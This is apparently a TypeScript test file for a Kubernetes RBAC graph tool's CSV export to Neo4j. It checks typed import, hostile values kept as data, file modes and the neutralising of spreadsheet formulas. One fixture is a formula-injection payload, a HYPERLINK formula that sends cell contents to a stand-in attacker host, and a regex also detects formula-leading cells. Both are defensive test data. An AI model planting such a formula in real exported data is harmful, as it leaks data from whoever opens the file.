/**
 * `kubepath export csv`: the files load with the real `neo4j-admin database import full`
 * (the AdminTool of the same Maven jars), run exactly as the README in the folder says,
 * into a new database that a real server then opens: the same nodes by kind and
 * relationships by type as `kubepath graph` and analyze's findings (helpers/export-expected.ts), properties typed (numbers, booleans,
 * arrays), hostile values (commas, quotes, line breaks, the array delimiter) as data,
 * and strings a spreadsheet would run as formulas with a leading `'`. The folder is
 * written whole, with the usual modes, its files made a row at a time.
 */
import {spawnSync} from 'node:child_process';
import {mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import neo4j from 'neo4j-driver';
import {describe, expect, it} from 'vitest';
import {csvFiles} from '../src/export/csv.js';
import type {ExportRecords} from '../src/export/records.js';
import {admin, layout, start, stop} from '../src/neo4j/local-server.js';
import {EXAMPLE, ROOT, runCli, tempDir} from './helpers/cli.js';
import {countBy, expectedExport, hostilePodFile} from './helpers/export-expected.js';

/** A User subject a namespace admin may name anything: here, a spreadsheet formula. */
const FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"open")';
const FORMULA_BINDING = [
  'apiVersion: rbac.authorization.k8s.io/v1',
  'kind: RoleBinding',
  'metadata: {name: formula, namespace: evil}',
  'roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}',
  `subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: ${JSON.stringify(FORMULA)}}]`,
  '',
].join('\n');

/** A field (every field is quoted) that starts with what makes a spreadsheet run it: at a line's start or after a comma, a quote then the character (an escaped quote inside a field is doubled, so never matches). */
const FORMULA_FIELD = /(^|,)"[=+\-@\t\r\0]/m;

function exportCsv(inputs: string[]): string {
  const out = join(tempDir(), 'csv');
  const result = runCli(['export', 'csv', ...inputs, '--out', out, '--cluster', 'imported']);
  expect(result.status, result.stderr).toBe(0);
  return out;
}

describe('kubepath export csv', () => {
  it('imports with neo4j-admin as its README says: the whole graph, typed, hostile values as data', async () => {
    const hostile = `a,b "c" ;d\nline two`;
    const file = hostilePodFile(hostile, `r.example/x;${hostile}`, FORMULA_BINDING);
    const out = exportCsv([EXAMPLE, file]);
    const again = exportCsv([EXAMPLE, file]);
    for (const name of readdirSync(out)) expect(readFileSync(join(again, name), 'utf8'), name).toBe(readFileSync(join(out, name), 'utf8'));
    const command = /```sh\n([\s\S]*?)\n```/
      .exec(readFileSync(join(out, 'README.md'), 'utf8'))![1]!
      .replace(/\\\n\s*/g, ' ')
      .trim()
      .split(/\s+/);
    expect(command[0]).toBe('neo4j-admin');
    const paths = layout(tempDir('kubepath-neo4j-'));
    expect(admin(command.slice(1), {paths, cwd: out})).toContain('IMPORT DONE');
    const server = await start({port: 0, password: 'csv-import', paths});
    const driver = neo4j.driver(server.uri, neo4j.auth.basic('neo4j', 'csv-import'), {disableLosslessIntegers: true});
    try {
      const graph = expectedExport([EXAMPLE, file]);
      const nodes = await driver.executeQuery("MATCH (n:KubepathNode {cluster: 'imported'}) RETURN n.kind AS kind, count(*) AS count");
      const relationships = await driver.executeQuery('MATCH ()-[r]->() RETURN type(r) AS type, count(*) AS count');
      expect(Object.fromEntries(nodes.records.map((r) => [r.get('kind'), r.get('count')]))).toEqual(countBy(graph.nodes, 'kind'));
      expect(Object.fromEntries(relationships.records.map((r) => [r.get('type'), r.get('count')]))).toEqual(countBy(graph.edges, 'type'));
      const typed = await driver.executeQuery(
        "MATCH (p:Pod {id: 'pod:ingress-nginx/ingress-nginx-controller'})-[r:USES_TOKEN]->(:ServiceAccount) RETURN r.cost AS cost, r.attack AS attack, r.evidenceObjects AS objects, p.images AS images",
      );
      const row = typed.records[0]!.toObject();
      expect([typeof row.cost, row.attack, Array.isArray(row.objects)]).toEqual(['number', true, true]);
      // The hostile image below holds the array delimiter: the Pod images column is JSON text, for every pod.
      expect(JSON.parse(row.images as string)).toEqual(
        graph.nodes.find((n) => n.id === 'pod:ingress-nginx/ingress-nginx-controller')!.images,
      );
      const evil = (
        await driver.executeQuery("MATCH (p:Pod {id: 'pod:evil/web'}) RETURN p.labels AS labels, p.images AS images")
      ).records[0]!.toObject();
      expect(JSON.parse(evil.labels as string)).toEqual({app: hostile});
      expect(JSON.parse(evil.images as string)).toEqual([`r.example/x;${hostile}`]);
      // The one value that differs from the other exports: made inert for spreadsheets, its id as it is.
      const user = graph.nodes.find((n) => n.kind === 'User' && n.name === FORMULA)!;
      const formula = (await driver.executeQuery('MATCH (u:User {id: $id}) RETURN u.name AS name', {id: user.id})).records.map((r) =>
        r.get('name'),
      );
      expect(formula).toEqual([`'${FORMULA}`]);
    } finally {
      await driver.close();
      await stop(paths);
    }
  });

  it('refuses a folder that is not empty (exit 2), and writes nothing there', () => {
    const out = exportCsv([EXAMPLE]);
    const before = readdirSync(out).sort();
    const result = runCli(['export', 'csv', EXAMPLE, '--out', out]);
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('exists and is not empty');
    expect(readdirSync(out).sort()).toEqual(before);
  });

  it('gives the folder and its files the usual modes (0777 and 0666 less the umask)', () => {
    const out = join(tempDir(), 'csv');
    const result = spawnSync(
      'sh',
      ['-c', 'umask 027 && exec "$0" "$@"', process.execPath, join(ROOT, 'bin', 'run.js'), 'export', 'csv', EXAMPLE, '--out', out],
      {encoding: 'utf8'},
    );
    expect(result.status, result.stderr).toBe(0);
    expect(statSync(out).mode & 0o777).toBe(0o750);
    for (const name of readdirSync(out)) expect(statSync(join(out, name)).mode & 0o777, name).toBe(0o640);
  });

  it('refuses an empty path, a missing folder, a file and a link (exit 2), writing nothing', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'file'), 'kept\n');
    mkdirSync(join(dir, 'empty'));
    symlinkSync(join(dir, 'empty'), join(dir, 'link'));
    const bad: Array<[string, RegExp]> = [
      ['', /^kubepath: error: cannot write to an empty path\n$/],
      [join(dir, 'missing', 'csv'), /^kubepath: error: cannot write .*: the folder .*missing does not exist\n$/],
      [join(dir, 'file'), /^kubepath: error: cannot write .*file: it exists and is not a folder\n$/],
      [join(dir, 'link'), /^kubepath: error: cannot write .*link: it is a symbolic link; name the folder it points to\n$/],
    ];
    for (const [out, message] of bad) {
      const result = runCli(['export', 'csv', EXAMPLE, '--out', out], {cwd: dir});
      expect(result.status, `${out}: ${result.stderr}`).toBe(2);
      expect(result.stderr).toMatch(message);
    }
    expect(readdirSync(dir).sort()).toEqual(['empty', 'file', 'link']);
    expect(readdirSync(join(dir, 'empty'))).toEqual([]);
    expect(readFileSync(join(dir, 'file'), 'utf8')).toBe('kept\n');
  });

  it('puts a leading quote on strings a spreadsheet would run as formulas, and on nothing else', () => {
    const file = join(tempDir(), 'formula.yaml');
    writeFileSync(file, FORMULA_BINDING);
    const out = exportCsv([EXAMPLE, file]);
    const users = readFileSync(join(out, 'nodes-User.csv'), 'utf8');
    const row = users.split('\n').filter((line) => line.endsWith(`"'${FORMULA.replace(/"/g, '""')}"`));
    expect(row).toHaveLength(1);
    // The id keeps the name as it is: it starts with its kind.
    expect(row[0]).toMatch(/^"user:[^']/);
    for (const name of readdirSync(out)) expect(readFileSync(join(out, name), 'utf8'), name).not.toMatch(FORMULA_FIELD);
  });

  it('makes only text cells inert: strings, a string array by its first item, never numbers, booleans or JSON', () => {
    const records: ExportRecords = {
      nodes: [
        {
          id: 'pod:a/-x',
          label: 'Pod',
          properties: {name: '-x', count: -5, ratio: -0.5, on: true, tags: ['@a', '=b'], mixed: '+1', note: '\tcmd'},
        },
        {id: 'pod:a/y', label: 'Pod', properties: {name: 'y', count: 2, ratio: 1, on: false, tags: ['b', '-c'], mixed: -3, note: '\rcmd'}},
      ],
      relationships: [{source: 'pod:a/-x', target: 'pod:a/y', type: 'CAN_REACH', key: 'k', properties: {evidence: '@SUM(1)', cost: -1}}],
    };
    const files = new Map(csvFiles(records, {cluster: 'c'}).map((file) => [file.name, [...file.chunks].join('')]));
    expect(files.get('nodes-Pod.csv')!.split('\n').slice(0, 3)).toEqual([
      ':ID,:LABEL,id,cluster,run,count:long,mixed:string,name:string,note:string,on:boolean,ratio:double,tags:string[]',
      expect.stringMatching(
        /^"pod:a\/-x","KubepathNode;Pod","pod:a\/-x","c","csv:[0-9a-f]+","-5","'\+1","'-x","'\tcmd","true","-0.5","'@a;=b"$/,
      ),
      expect.stringMatching(/^"pod:a\/y","KubepathNode;Pod","pod:a\/y","c","csv:[0-9a-f]+","2","-3","y","'\rcmd","false","1","b;-c"$/),
    ]);
    expect(files.get('relationships-CAN_REACH.csv')).toMatch(/"-1","'@SUM\(1\)"\n$/);
  });

  it('makes each file a row at a time as it is written, never whole', () => {
    const records: ExportRecords = {
      nodes: Array.from({length: 3}, (_, i) => ({id: `ns:n${i}`, label: 'Namespace', properties: {name: `n${i}`}})),
      relationships: [],
    };
    const [namespaces] = csvFiles(records, {cluster: 'c'});
    expect(namespaces!.name).toBe('nodes-Namespace.csv');
    expect(typeof namespaces!.chunks).not.toBe('string');
    expect([...namespaces!.chunks]).toHaveLength(1 + 3);
  });
});
